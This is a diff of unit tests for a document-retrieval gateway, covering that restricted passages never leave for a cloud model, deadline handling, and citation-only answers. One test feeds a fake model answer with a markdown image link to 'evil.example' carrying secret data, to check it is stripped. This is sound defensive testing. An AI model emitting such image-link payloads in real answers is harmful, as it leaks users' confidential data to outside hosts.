@@ -14,8 +14,13 @@ from freehold.domain.deployment import Uncalibrated
 from freehold.domain.errors.base import FreeholdError
 from freehold.domain.errors.policy import NoPermittedDeployment
 from freehold.domain.errors.untrusted import ServerToolRefused
-from freehold.domain.errors.upstream import UpstreamTimeout
-from freehold.domain.errors.vault import VaultNeedsExtra, VaultNoRoom, VaultNothingAsked, VaultUnknown
+from freehold.domain.errors.vault import (
+    VaultLate,
+    VaultNeedsExtra,
+    VaultNoRoom,
+    VaultNothingAsked,
+    VaultUnknown,
+)
 from freehold.domain.labels import Level
 from freehold.domain.request import InferenceRequest
 from freehold.domain.retrieved import RetrievedDocument
@@ -32,6 +37,7 @@ from tests.unit.gateway.test_learner import Listener
 from tests.unit.gateway.test_pipeline import REQUEST_ID, engine, house
 
 SECRET = passage("The Alder contract ends on 3 May.", document="alder", label="restricted", title="Alder")
+ANA = frozenset({"user:ana"})
 PLAIN = passage("The canteen opens at noon.", document="canteen", label="public", title="Canteen")
 
 
@@ -47,7 +53,7 @@ def home_and_cloud(*documents: Any, **route: object) -> tuple[House, FakeEngine,
     """A house whose route prefers the cloud."""
     cloud, small = engine("cloud", zone=WORLD), engine("small")
     at = house(cloud, small, **{"uncalibrated": Uncalibrated.ACCEPT, **route})
-    at.vault = FakeVault(documents=documents)
+    at.vault = FakeVault(kept=documents)
     return at, cloud, small
 
 
@@ -126,6 +132,56 @@ def test_who_asks_for_what_may_leave_gets_that_and_is_told_how_much_was_left_out
     assert [each.id for each in retrieved.documents] == ["canteen"]
 
 
+def test_what_may_not_leave_makes_room_for_further_ranks() -> None:
+    secrets = tuple(
+        passage(f"Secret {n}.", document=f"s{n}", label="restricted", level=Level.RESTRICTED) for n in range(30)
+    )
+    at_home = tuple(passage(f"At home {n}.", document=f"h{n}", label="public;zones=device") for n in range(5))
+    plain = tuple(passage(f"Plain {n}.", document=f"p{n}") for n in range(5))
+    at, cloud, small = home_and_cloud(*secrets, *at_home, *plain)
+    asyncio.run(at.ask(asked(vault={"only_what_may_leave": True, "limit": 4})))
+    assert (len(cloud.calls), len(small.calls)) == (1, 0)
+    retrieved = at.receipt.retrieved
+    assert retrieved is not None
+    assert [each.id for each in retrieved.documents] == ["p0", "p1", "p2", "p3"]
+    # The first four, and those at home that stood before the first plain ones; not how many secrets there are.
+    assert retrieved.left_out == (("public", 5), ("restricted", 4))
+    sent = cloud.calls[0].body.decode()
+    assert "Secret" not in sent
+    assert "At home" not in sent
+    assert isinstance(at.vault, FakeVault)
+    assert len(at.vault.queries) == 4
+    assert all(each.limit == 4 for each in at.vault.queries)
+
+
+def test_further_ranks_are_looked_for_only_so_often() -> None:
+    at_home = tuple(passage(f"At home {n}.", document=f"h{n}", label="public;zones=device") for n in range(90))
+    at, cloud, _ = home_and_cloud(*at_home, PLAIN)
+    sink = asyncio.run(at.ask(asked(vault={"only_what_may_leave": True})))
+    assert sink.text == NOT_IN_DOCUMENTS
+    assert not cloud.calls
+    assert isinstance(at.vault, FakeVault)
+    assert len(at.vault.queries) == 5
+    assert at.receipt.retrieved is not None
+    assert at.receipt.retrieved.left_out == (("public", 32),)
+
+
+def test_what_is_left_out_tells_nothing_of_documents_that_the_asker_may_not_read() -> None:
+    hidden = tuple(
+        passage(f"Hidden {n}.", document=f"x{n}", label="restricted", level=Level.RESTRICTED, names=ANA)
+        for n in range(9)
+    )
+    seen: list[object] = []
+    for more in ((), hidden):
+        at, cloud, _ = home_and_cloud(*more, SECRET, PLAIN)
+        sink = asyncio.run(at.ask(asked(vault={"only_what_may_leave": True})))
+        assert isinstance(at.vault, FakeVault)
+        queries = [(each.without, each.reader, each.limit) for each in at.vault.queries]
+        receipt = replace(at.receipt, id="", total_ms=0.0, attempts=())
+        seen.append((cloud.calls[0].body, sink.answer.whole(asked(), model="m"), receipt.retrieved, receipt, queries))
+    assert seen[0] == seen[1]
+
+
 def test_a_route_can_ask_for_all_its_chats() -> None:
     at, cloud, small = home_and_cloud(SECRET, PLAIN, vault="archive", only_what_may_leave=True)
     asyncio.run(at.ask(asked(vault=None)))
@@ -135,7 +191,7 @@ def test_a_route_can_ask_for_all_its_chats() -> None:
 
 @pytest.mark.parametrize("stream", [False, True])
 def test_where_documents_do_not_say_no_model_is_asked(stream: bool) -> None:
-    for vault in (FakeVault(), FakeVault(documents=(SECRET,), support=0.2)):
+    for vault in (FakeVault(), FakeVault(kept=(SECRET,), support=0.2)):
         at, cloud, small = home_and_cloud()
         at.vault = vault
         sink = asyncio.run(at.ask(asked(stream=stream)))
@@ -158,8 +214,8 @@ def test_where_documents_do_not_say_no_model_is_asked(stream: bool) -> None:
     [
         (FakeVault(fails=VaultNeedsExtra(missing="apsw", extra="vault")), asked(), VaultNeedsExtra),
         (FakeVault(known=("archive",)), asked(vault="others"), VaultUnknown),
-        (FakeVault(documents=(SECRET,)), asked(("system", "x")), VaultNothingAsked),
-        (FakeVault(documents=(SECRET,)), asked(("user", "word " * 20_000)), VaultNoRoom),
+        (FakeVault(kept=(SECRET,)), asked(("system", "x")), VaultNothingAsked),
+        (FakeVault(kept=(SECRET,)), asked(("user", "word " * 20_000)), VaultNoRoom),
     ],
 )
 def test_what_cannot_be_searched_is_refused_and_nothing_leaves(
@@ -183,7 +239,7 @@ def test_a_gateway_without_vaults_says_that_there_is_none() -> None:
 def test_a_refused_request_with_documents_is_not_held_for_a_release() -> None:
     cloud = engine("cloud", zone=WORLD)
     at = house(cloud)
-    at.vault = FakeVault(documents=(SECRET,))
+    at.vault = FakeVault(kept=(SECRET,))
     with pytest.raises(NoPermittedDeployment):
         asyncio.run(at.ask(asked()))
     assert not cloud.calls
@@ -202,7 +258,7 @@ def test_links_in_an_answer_from_documents_are_taken_out() -> None:
     small = engine("small", default=FakeAnswer(text="see ![x](https://evil.example/?q=secret) now"))
     at = house(small)
     at.keys.tenant_label = INTERNAL
-    at.vault = FakeVault(documents=(SECRET,))
+    at.vault = FakeVault(kept=(SECRET,))
     assert "https://evil.example" not in asyncio.run(at.ask(asked())).text
 
 
@@ -264,7 +320,7 @@ QUOTE = FakeAnswer(text='It says "The Alder contract ends on 3 May." [1] And "Al
 @pytest.mark.parametrize("stream", [False, True])
 def test_quotes_are_checked_before_they_are_shown_and_sources_told(stream: bool) -> None:
     at = house(engine("small", default=QUOTE))
-    at.vault = FakeVault(documents=(SECRET,))
+    at.vault = FakeVault(kept=(SECRET,))
     sink = asyncio.run(at.ask(asked(stream=stream)))
     assert '"The Alder contract ends on 3 May." [1]' in sink.text
     assert '"Alder pays nothing' not in sink.text
@@ -282,10 +338,31 @@ def test_quotes_are_checked_before_they_are_shown_and_sources_told(stream: bool)
     assert annotations[0]["file_citation"]["file_id"] == "alder"
 
 
+@pytest.mark.parametrize("stream", [False, True])
+@pytest.mark.parametrize("said", ["[1]", " [1] [2]\n", "[1]. [2]"])
+def test_an_answer_that_is_nothing_but_numbers_of_documents_is_none(stream: bool, said: str) -> None:
+    at = house(engine("small", default=FakeAnswer(text=said)))
+    at.vault = FakeVault(kept=(SECRET, PLAIN))
+    sink = asyncio.run(at.ask(asked(stream=stream)))
+    assert sink.text.strip(" .\n") == NOT_IN_DOCUMENTS.strip(".")
+    last = sink.chunks[-1].payload if stream else sink.answer.whole(asked(), model="m")
+    assert cast("Any", last)["vault"]["abstained"]
+
+
+def test_all_events_of_a_stream_are_of_one_answer() -> None:
+    at, _, _ = home_and_cloud(SECRET)
+    sink = asyncio.run(at.ask(asked(stream=True)))
+    payloads = [each.payload for each in sink.chunks if each.payload]
+    assert "vault" in payloads[0]
+    for name in ("id", "created", "model"):
+        assert len({each[name] for each in payloads}) == 1, name  # pyright: ignore[reportArgumentType] - hashable
+    assert sum("passages" in cast("Any", each.get("vault", {})) for each in payloads) == 1
+
+
 def test_where_values_are_taken_out_of_answers_no_passage_tells_them() -> None:
     pii = passage("Write to ann@example.com about Alder.", document="mail", label="restricted")
     at = house(engine("small", default=FakeAnswer(text='Write to "ann@example.com about Alder."')), redact_answers=True)
-    at.vault = FakeVault(documents=(pii,))
+    at.vault = FakeVault(kept=(pii,))
     request = replace(asked(), vault=VaultAsk(tells_texts=True))
     sink = asyncio.run(at.ask(request))
     assert "ann@example.com" not in json.dumps(sink.answer.whole(asked(), model="m"))
@@ -295,7 +372,7 @@ def test_an_engines_cache_of_a_prompt_with_documents_is_another_than_without() -
     scopes: list[str] = []
     for documents, vault in (((SECRET,), None), ((SECRET,), True), ((PLAIN,), True)):
         at = house(engine("small"))
-        at.vault = FakeVault(documents=documents)
+        at.vault = FakeVault(kept=documents)
         snapshot = replace(at.runtime(), cache_key=b"k" * 32)
         pipeline = Pipeline(services=at.services(), runtime=lambda snapshot=snapshot: snapshot)
         asyncio.run(pipeline.answer(asked(vault=vault), pipeline.authenticate(GOOD_KEY), MemorySink()))
@@ -307,12 +384,40 @@ def test_an_engines_cache_of_a_prompt_with_documents_is_another_than_without() -
 
 def test_an_answer_from_documents_is_not_learnt_from() -> None:
     at, listener = house(engine("small"), engine("large")), Listener(is_listening=True)
-    at.vault = FakeVault(documents=(SECRET,))
+    at.vault = FakeVault(kept=(SECRET,))
     pipeline = Pipeline(services=replace(at.services(), learn=listener), runtime=at.runtime)
     asyncio.run(pipeline.answer(asked(), pipeline.authenticate(GOOD_KEY), MemorySink()))
     assert not listener.heard
     asyncio.run(pipeline.answer(asked(vault=None), pipeline.authenticate(GOOD_KEY), MemorySink()))
     assert len(listener.heard) == 1
+
+
+class LateLook(FakeVault):
+    """Finds, and then never says anything more."""
+
+    async def documents(self, vault: str, **more: Any) -> Any:
+        del vault, more
+        return await asyncio.get_running_loop().create_future()
+
+
+@pytest.mark.parametrize("stream", [False, True])
+def test_a_look_before_sending_that_hangs_ends_at_the_deadline_and_nothing_is_sent(stream: bool) -> None:
+    at, cloud, small = home_and_cloud(PLAIN)
+    at.vault = LateLook(kept=(PLAIN,))
+    snapshot = replace(at.runtime(), deadlines=Deadlines(total_s=0.02))
+    pipeline = Pipeline(services=at.services(), runtime=lambda: snapshot)
+    with pytest.raises(VaultLate):
+        asyncio.run(pipeline.answer(asked(stream=stream), pipeline.authenticate(GOOD_KEY), MemorySink()))
+    assert cloud.calls == small.calls == []
+    assert "egress.intent" not in at.audit.events()
+
+
+def test_documents_are_looked_at_once_before_an_attempt_and_never_without_passages() -> None:
+    for kept, looks in (((PLAIN, SECRET), 1), ((), 0)):
+        at, _, _ = home_and_cloud(*kept)
+        asyncio.run(at.ask(asked()))
+        assert isinstance(at.vault, FakeVault)
+        assert at.vault.looks == looks
 
 
 class Hangs(FakeVault):
@@ -328,11 +433,11 @@ def test_a_search_that_hangs_holds_no_request_beyond_its_deadline() -> None:
     at.vault = Hangs()
     snapshot = replace(at.runtime(), deadlines=Deadlines(total_s=0.02))
     pipeline = Pipeline(services=at.services(), runtime=lambda: snapshot)
-    with pytest.raises(UpstreamTimeout, match=r"search the documents within 0\.02 s"):
+    with pytest.raises(VaultLate, match=r"did not answer within 0\.02 s"):
         asyncio.run(pipeline.answer(asked(), pipeline.authenticate(GOOD_KEY), MemorySink()))
     assert not cloud.calls
     assert not small.calls
-    assert at.receipt.error_code == UpstreamTimeout.code
+    assert at.receipt.error_code == VaultLate.code
 
 
 @pytest.mark.parametrize(
